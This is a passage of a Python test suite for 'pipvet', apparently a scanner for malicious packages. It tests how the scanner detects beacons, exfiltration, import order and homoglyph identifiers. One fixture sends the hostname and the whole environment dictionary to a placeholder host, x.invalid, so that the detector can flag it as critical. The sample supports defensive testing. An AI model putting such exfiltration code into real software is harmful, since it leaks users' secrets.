    """
    assert ip_severity(beacon) == ["high"]
    assert ip_severity(beacon.replace("        register()\n", "")) == ["medium"]  # on request only


def test_secrets_returned_by_another_module_are_followed_into_the_network_call() -> None:
    collector = """
        import os, socket

        def host_info():
            return {"host": socket.gethostname(), "env": os.environ.copy()}
    """
    sender = """
        import urllib.request
        from .info import host_info

        urllib.request.urlopen("https://x.invalid/c", data=str(host_info()).encode())
    """
    files = {"demo/__init__.py": sender, "demo/info.py": collector}
    assert _exfil_severities(files) == ["critical"]
    # an absolute import of the package's own module, the caller listed first in the archive
    absolute = sender.replace("from .info import", "from demo.info import")
    assert _exfil_severities({"demo/__init__.py": absolute, "demo/info.py": collector}) == [
        "critical"
    ]
    # a helper returning nothing secret keeps the call quiet
    plain = collector.replace(', "env": os.environ.copy()', "").replace(
        "socket.gethostname()", "'x'"
    )
    assert _exfil_severities({"demo/__init__.py": sender, "demo/info.py": plain}) == []


def test_dependency_order_puts_imported_modules_first() -> None:
    from pipvet.core.analysis.reach import dependency_order

    art = artifact(
        {
            "demo/__init__.py": "from .b import f\nfrom . import c\n",
            "demo/b.py": "from demo.c import g\n",
            "demo/c.py": "import demo.b\n",  # a cycle: cut, never looped
            "README.md": "",
        }
    )
    order = [m.path.split("/", 1)[1] for m in dependency_order(art.members)]
    assert order[0] == "README.md" and order[-1] == "demo/__init__.py"
    assert set(order) == {"README.md", "demo/__init__.py", "demo/b.py", "demo/c.py"}


def test_the_homoglyph_named_is_the_first_in_the_file_whatever_the_hash_seed() -> None:
    """Reports are the same for the same input: of several mixed-script identifiers, the
    evidence is the first in the file, not whichever a set happened to yield first (the hash
    seed of strings differs from process to process)."""
    import os
    import subprocess
    import sys

    words = [f"p\u0430ss{i}" for i in range(12)]  # Latin with a Cyrillic 'а'
    source = "".join(f"{w} = {i}\n" for i, w in enumerate(words))
    code = (
        "import sys; from pipvet.core.analysis.engine import analyze\n"
        "from tests.test_scan_rules import artifact\n"
        "r = analyze(artifact({'demo/m.py': sys.stdin.read()}))\n"
        "print([f.evidence for f in r.findings if f.rule == 'obfuscation.homoglyph'])\n"
    )
    seen = set()
    for seed in ("1", "2", "3", "4"):
        out = subprocess.run(
            [sys.executable, "-c", code],
            input=source,
            capture_output=True,
            text=True,
            env={**os.environ, "PYTHONHASHSEED": seed},
            check=True,
        ).stdout
        seen.add(out)
    assert seen == {f"[{words[0]!r}]\n"}
